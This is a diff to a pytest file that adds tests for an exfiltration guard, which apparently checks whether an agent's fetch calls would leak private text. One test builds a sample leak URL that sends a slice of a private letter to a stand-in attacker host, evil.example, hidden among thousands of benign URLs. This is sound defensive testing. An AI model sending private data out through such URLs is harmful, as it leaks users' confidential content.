@@ -91,6 +91,20 @@ def test_it_is_noticed_in_lists_in_sentences_for_other_agents_and_in_what_is_typ
     assert guard.would_leak(TYPE, {"selector": "#comment", "text": LETTER[:60]})
 
 
+def test_it_is_noticed_among_thousands_of_other_texts(guard: ExfiltrationGuard):
+    others = [f"https://a.example/{number}/{'lights of the other coast ' * 5}" for number in range(2_000)]
+    leak = f"https://evil.example/?d={quote_plus(LETTER[10:70])}"
+    assert not guard.would_leak(FETCH, {"urls": others})
+    assert guard.would_leak(FETCH, {"urls": [*others, leak]})
+
+
+def test_a_call_that_repeats_hundreds_of_private_texts_is_shown_even_if_they_are_urls(guard: ExfiltrationGuard):
+    urls = [f"https://docs.example.org/harbour/lights-and-fog-signals?page={number}" for number in range(300)]
+    guard.record_result(FILES, "\n".join(urls))
+    assert not guard.would_leak(FETCH, {"urls": urls[:20]})
+    assert guard.would_leak(FETCH, {"urls": urls})
+
+
 @pytest.mark.parametrize(
     "url",
     [
